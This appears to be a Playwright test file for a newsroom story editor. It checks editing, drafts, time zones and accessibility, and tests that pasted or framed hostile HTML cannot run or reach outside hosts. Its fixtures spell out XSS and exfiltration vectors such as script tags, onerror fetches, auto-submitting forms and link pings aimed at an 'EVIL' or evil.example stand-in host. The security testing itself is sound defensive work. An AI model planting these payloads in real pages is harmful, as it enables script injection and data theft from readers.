"""A story's screens in Chromium: the editor of its body, drafts, times, and what is framed."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from tests.browser.test_desk import SHAPES, STORY, WAIT, At, press, settle, signed_in
from tests.browser.test_every_kind import ASK_AXE
from tests.browser.tools import AXE, needed
from tests.desk.browser import Browser as Client
from tests.desk.browser import settings
from tests.pipeline.world import World, entry
from tests.xss.payloads import PAYLOADS
from wireroom.newsroom.identity import article_id
from wireroom_infra.local.desk import local_desk

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page, Request

    from tests.browser.browsing import Chromium
    from tests.conftest import SharedStack

pytestmark = pytest.mark.slow

ENGLISH = (
    "<p>The depth is 14 m, says the <a href='https://dam.example/'>dam's office</a>.</p>"
    "<ul><li>One gate</li><li>Two gates</li></ul>"
    "<p><img src='https://pictures.example/dam.jpg' alt='The dam'></p>"
    "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
)
HINDI = "<p>बाँध के द्वार रात में खोले गए।</p><p>किसी को चोट नहीं आई।</p>"
ARABIC = "<p>فتحت بوابات السد ليلا.</p><p>لم يصب أحد.</p>"
WORD = """<html><head><style>p.MsoNormal{margin:0}</style></head><body><!--StartFragment-->
<p class=MsoNormal style='margin:0'><b style='mso-bidi-font-weight:normal'>Bold</b> <span
style='font-family:"Calibri"'>and plain</span><o:p></o:p></p>
<p class=MsoListParagraph style='text-indent:-.25in'><![if !supportLists]><span
style='mso-list:Ignore'>·<span>&nbsp;&nbsp;</span></span><![endif]>First</p>
<p class=MsoListParagraph><span style='mso-list:Ignore'>·</span>Second</p>
<script>window.hit = 1</script><img src="https://evil.example/beacon.gif" onerror="window.hit = 1">
<a href="javascript:window.hit=1">a link</a><!--EndFragment--></body></html>"""
MAIL = """<div dir="ltr">Dear all,<br><div>two <i>words</i></div>
<div><font color="red">Red</font></div>
<blockquote type="cite" style="border-left:1px">They said.</blockquote></div>"""


@pytest.fixture
def at(shared_stack: SharedStack) -> Iterator[At]:
    aws = shared_stack.start()
    aws.reset()
    shared_stack.issuer.reset()
    world = World(aws)
    world.apply(settings(shared_stack.issuer))
    world.publish(
        entry(1, title="Gates opened", body=ENGLISH),
        entry(2, title="बाँध के द्वार खुले", language="hi", body=HINDI),
        entry(3, title="بوابات السد", language="ar", body=ARABIC),
    )
    client = Client(world, shared_stack.issuer)
    client.sign_in()
    with local_desk(aws) as address:
        yield At(world, address, client.session_at(address))


def requests(page: Page) -> list[str]:
    """The hosts that the page asks for something, as it goes on. What its policy stops is named by
    the browser, too, but not asked for."""
    asked: list[str] = []

    def done(request: Request) -> None:
        if request.url.startswith("http") and request.failure != "csp":
            asked.append(urlsplit(request.url).netloc)

    page.on("requestfinished", done)
    page.on("requestfailed", done)
    return asked


async def written(page: Page) -> str:
    """What would be sent as the body."""
    return await page.input_value("#body")


async def paste(page: Page, html: str = "", text: str = "") -> None:
    await page.evaluate(
        """([html, text]) => {
          const data = new DataTransfer();
          if (html) data.setData('text/html', html);
          data.setData('text/plain', text);
          document.querySelector('.editor').dispatchEvent(
            new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
        }""",
        [html, text],
    )


def test_a_paragraph_is_corrected_where_it_stands(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> list[str]:
        context = await signed_in(browser, at)
        page = await context.new_page()
        complaints: list[str] = []
        page.on("console", lambda said: complaints.append(said.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        await page.goto(f"{at.address}{STORY}")
        await press(page, "text=Edit its body")
        assert not await page.is_visible("#body")
        await page.click(".editor p")
        await page.keyboard.press("Home")
        await page.keyboard.press("Control+Shift+ArrowRight")
        await page.keyboard.type("Its")
        await page.fill("#correction", "It is the dam's depth.")
        await page.click("text=Show its page below")
        frame = page.frame_locator("iframe[name=preview]")
        await frame.locator("text=It is the dam's depth.").wait_for(timeout=WAIT)
        assert "Its depth is 14 m" in await frame.locator(".body").inner_text()
        await press(page, "text=Show what it changes")
        assert await page.inner_text("#mine + div del, #mine + div ins") == "The "
        await press(page, "text=Publish the correction")
        settle(at)
        await page.wait_for_selector("#sent .written", timeout=WAIT)
        return complaints

    # The frame shows no pictures of others, and the browser says so.
    assert [each for each in painter.run(work) if '"img-src https://harbour' not in each] == []
    shown = at.world.page(at.world.article().path)
    assert "<p>Its depth is 14 m, says the <a href=" in shown
    assert "</ul><p><img src=" in shown
    assert "<td>1</td><td>2</td>" in shown
    assert "It is the dam&#39;s depth." in shown


def test_what_is_pasted_from_word_and_mail_is_cleaned(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at)
        page = await context.new_page()
        asked = requests(page)
        await page.goto(f"{at.address}/story/{article_id('ptn', '2')}/body")
        for html, expected in (
            (
                WORD,
                ["<p><strong>Bold</strong> and plain</p>", "<ul><li>First</li>\n<li>Second</li>"],
            ),
            (MAIL, ["Dear all,", "<p>two <em>words</em></p>", "<p>Red</p>", "<blockquote>"]),
        ):
            await page.click(".editor")
            await page.keyboard.press("Control+A")
            await page.keyboard.press("Delete")
            await paste(page, html)
            text = await written(page)
            for each in expected:
                assert each in text, text
            for each in ("mso", "style", "class", "·", "javascript", "beacon", "font", "span"):
                assert each not in text.lower(), text
        await page.keyboard.press("Control+A")
        await page.keyboard.press("Delete")
        await paste(page, text="One <b>\n\nTwo")
        assert "<p>One &lt;b&gt;</p>\n<p>Two</p>" in await written(page)
        assert await page.evaluate("window.hit") is None
        assert set(asked) == {urlsplit(at.address).netloc}
        await context.close()

    painter.run(work)


def test_the_tools_make_lists_quotes_links_and_emphasis_by_keys(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at)
        page = await context.new_page()
        page.on("dialog", lambda dialog: dialog.accept("https://dam.example/x?a=1&b=2"))
        found = []
        for name in ("Strong", "Emphasis", "Link", "List", "Numbers", "Quote"):
            await page.goto(f"{at.address}/story/{article_id('ptn', '2')}/body")
            await page.click(".editor")
            await page.keyboard.press("Control+A")
            await page.keyboard.press("Delete")
            await page.keyboard.type("words")
            await page.keyboard.press("Control+A")
            await page.focus(f".tools button:text-is('{name}')")
            await page.keyboard.press("Enter")
            found.append("".join((await written(page)).split("\n")))
        assert found == [
            "<p><strong>words</strong></p>",
            "<p><em>words</em></p>",
            '<p><a href="https://dam.example/x?a=1&amp;b=2">words</a></p>',
            "<ul><li>words</li></ul>",
            "<ol><li>words</li></ol>",
            "<blockquote>words</blockquote>",
        ]
        await page.click("text=Show the HTML")
        await page.fill("#body", "<p>By hand.</p>")
        await page.click("text=Show the text")
        assert await page.inner_text(".editor") == "By hand."
        await context.close()

    painter.run(work)


def test_nothing_typed_is_lost(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at)
        page = await context.new_page()
        body = f"{at.address}{STORY}/body"
        await page.goto(body)
        await page.click(".editor p")
        await page.keyboard.press("Home")
        await page.keyboard.type("Draft. ")
        await page.fill("#correction", "Not yet")
        await page.wait_for_timeout(500)
        await page.goto(f"{at.address}/")
        await page.goto(body)
        assert "Draft." not in await page.inner_text(".editor")
        await page.click("text=Put it back")
        assert "Draft." in await page.inner_text(".editor")
        assert await page.input_value("#correction") == "Not yet"
        await press(page, "text=Publish the correction")
        settle(at)
        await page.wait_for_selector("#sent .written", timeout=WAIT)
        await page.goto(body)
        assert "Draft." in await page.inner_text(".editor")
        assert await page.query_selector(".draft") is None
        await context.close()

    painter.run(work)


def test_a_time_is_told_on_the_editors_own_clocks(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at, timezone_id="America/New_York")
        page = await context.new_page()
        await page.goto(f"{at.address}{STORY}")
        await page.click("summary:text-is('Times')")
        await page.fill("#publish_at", "2026-03-08T12:45")
        told = await page.inner_text("#publish_at + p")
        assert told == "On your clocks: Sunday, 8 March 2026 at 03:15 (America/New_York)"
        await context.close()

    painter.run(work)


def test_the_body_is_corrected_without_a_script(painter: Chromium, at: At) -> None:
    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at, java_script_enabled=False)
        page = await context.new_page()
        await page.goto(f"{at.address}{STORY}/body")
        await page.fill("#body", "<p>New.</p>")
        await page.fill("#correction", "All of it.")
        await page.click("text=Show its page below")
        frame = page.frame_locator("iframe[name=preview]")
        await frame.locator("text=All of it.").wait_for(timeout=WAIT)
        await press(page, "text=Show what it changes")
        await press(page, "text=Publish the correction")
        settle(at)
        await page.goto(f"{at.address}{STORY}/body")
        await press(page, "text=Use the agency's body again")
        settle(at)
        for button, opened in (
            ("Set the times", "Times"),
            ("Pin", ""),
            ("Save the categories", ""),
        ):
            await page.goto(f"{at.address}{STORY}")
            if opened:
                await page.click(f"summary:text-is('{opened}')")
                await page.fill("#expire_at", "2027-01-01T06:00")
            if "categories" in button:
                await page.check("[name=in-sport]")
            await press(page, f"button:text-is('{button}')")
            settle(at)
        await page.goto(f"{at.address}{STORY}")
        await page.fill("#note", "Called them.")
        await press(page, "text=Add the note")
        settle(at)
        article = at.world.article()
        assert article.desk.expire_at
        assert article.pins == {"home": 1}
        assert "sport" in article.categories
        assert article.desk.body.value is None
        await context.close()

    painter.run(work)


def test_attacks_run_neither_in_the_editor_nor_in_frames(painter: Chromium, at: At) -> None:
    """They are put into the form as somebody would who came back to it."""

    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at)
        page = await context.new_page()
        asked = requests(page)
        ran: list[str] = []
        page.on("dialog", lambda dialog: ran.append(dialog.message))
        await page.goto(f"{at.address}{STORY}/body")
        for start in range(0, len(PAYLOADS), 80):
            several = " ".join(PAYLOADS[start : start + 80]).encode("utf-8", "ignore").decode()
            await page.evaluate(
                """(text) => {
                  const field = document.getElementById('body');
                  field.value = text;
                  field.dispatchEvent(new Event('draft', { bubbles: true }));
                }""",
                several,
            )
            await paste(page, several)
            await page.fill("#correction", several[:900])
            async with page.expect_response("**/preview"):
                await page.click("text=Show its page below")
        await page.wait_for_timeout(500)
        assert ran == []
        assert set(asked) <= {urlsplit(at.address).netloc, "harbour.example"}
        await context.close()

    painter.run(work)


def test_a_frame_goes_nowhere_and_asks_nobody(painter: Chromium, at: At) -> None:
    """Its links lead nowhere by mouse or keys, and the agency's picture is not asked for."""

    async def work(browser: Browser) -> None:
        context = await signed_in(browser, at)
        page = await context.new_page()
        asked = requests(page)
        await page.goto(f"{at.address}{STORY}")
        frame = page.frame_locator("iframe.page")
        link = frame.locator(".body a")
        await link.wait_for(timeout=WAIT)
        await link.click(force=True)
        await link.focus()
        await page.keyboard.press("Enter")
        await page.wait_for_timeout(300)
        assert page.url == f"{at.address}{STORY}"
        assert len(context.pages) == 1
        assert set(asked) == {urlsplit(at.address).netloc}
        await context.close()

    painter.run(work)


# Whatever a browser may be made to ask by HTML, if a page had it that readers get.
HEAD = """<link rel=preconnect href=EVIL><link rel=dns-prefetch href=EVIL>
<link rel=prefetch href=EVIL><link rel=prerender href=EVIL><link rel=stylesheet href=EVIL>
<link rel=modulepreload href=EVIL><link rel=preload as=image href=EVIL><link rel=icon href=EVIL>
<link rel=manifest href=EVIL><meta http-equiv=refresh content="0;url=EVIL"><base target=_top>
<style>@import url(EVIL);body{background:url(EVIL)}@font-face{font-family:x;src:url(EVIL)}</style>
"""
BODY = """<p style="font-family:x;background:url(EVIL)">x</p><img src=EVIL srcset="EVIL 1x">
<iframe src=EVIL></iframe><object data=EVIL></object><embed src=EVIL><video src=EVIL poster=EVIL
autoplay></video><audio src=EVIL autoplay></audio><svg><image href=EVIL /><use href=EVIL#x /></svg>
<script>fetch('EVIL');top.location='EVIL'</script><img src=x onerror="fetch('EVIL')">
<form action=EVIL method=post id=f><input name=a autofocus onfocus="f.submit()"><button id=send>
</button></form><a id=out href=EVIL ping=EVIL target=_top>out</a><input type=image src=EVIL>
<a id=run href="javascript:top.alert(1)">run</a><table background=EVIL><tr><td>x</table>"""


def test_a_hostile_page_in_the_frame_reaches_nobody(painter: Chromium, at: At) -> None:
    """Not even by a connection that says nothing."""
    site, path = at.world.aws.outputs["SiteBucket"], at.world.article().path
    with socket.create_server(("127.0.0.1", 0)) as evil:
        evil.settimeout(0.5)
        where = f"http://127.0.0.1:{evil.getsockname()[1]}/"
        page = at.world.page(path).replace("</head>", f"{HEAD}</head>")
        page = page.replace("</body>", f"{BODY}</body>").replace("EVIL", where)
        key = f"{path.removeprefix('/')}index.html"
        at.world.aws.client("s3").put_object(Bucket=site, Key=key, Body=page.encode())

        async def work(browser: Browser) -> list[str]:
            context = await signed_in(browser, at)
            ran: list[str] = []
            shown = await context.new_page()
            shown.on("dialog", lambda dialog: ran.append(dialog.message))
            await shown.goto(f"{at.address}{STORY}/page")
            await shown.wait_for_timeout(300)
            assert shown.url == f"{at.address}{STORY}/page"
            await shown.goto(f"{at.address}{STORY}")
            inside = shown.frame_locator("iframe.page")
            for name in ("out", "run", "send"):
                await inside.locator(f"#{name}").dispatch_event("click", timeout=WAIT)
            await shown.wait_for_timeout(300)
            assert shown.url == f"{at.address}{STORY}"
            assert len(context.pages) == 1
            await context.close()
            return ran

        assert painter.run(work) == []
        with pytest.raises(TimeoutError):
            evil.accept()


def test_axe_finds_nothing_on_a_storys_screens(chromium: Chromium, at: At) -> None:
    for number, body in (("1", ENGLISH), ("2", HINDI), ("3", ARABIC)):
        new = body.replace("</p>", " 41.</p>", 1)
        at.world.edit("correct", article=f"ptn:{number}", body=new, correction="41.")
    at.world.publish(entry(1, 2, title="Gates opened", body="<p>Another body.</p>"))
    at.world.edit("pin", article="ptn:1")
    at.world.edit("schedule", article="ptn:1", expire_at="2027-01-01T06:00:00Z")
    axe = needed(AXE).read_text("utf-8")
    ask = f"async () => {{ if (!window.axe) {{ {axe} }} return ({ASK_AXE})(); }}"
    stories = [f"/story/{article_id('ptn', number)}" for number in "123"]
    paths = [f"{story}{more}" for story in stories for more in ("", "/body", "/revision/2")]
    paths.append(f"/fronts?pin={article_id('ptn', '3')}")

    async def work(browser: Browser) -> list[str]:
        found = []
        for width, scheme in SHAPES:
            context = await signed_in(
                browser, at, viewport={"width": width, "height": 844}, color_scheme=scheme,
                bypass_csp=True,
            )  # fmt: skip
            page = await context.new_page()
            for path in paths:
                await page.goto(f"{at.address}{path}")
                found += [f"{path} {width} {scheme}: {each}" for each in await page.evaluate(ask)]
                wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
                if await page.evaluate(wide) > 0:
                    found.append(f"{path} {width}: wider than the window")
            await context.close()
        return found

    assert chromium.run(work) == []
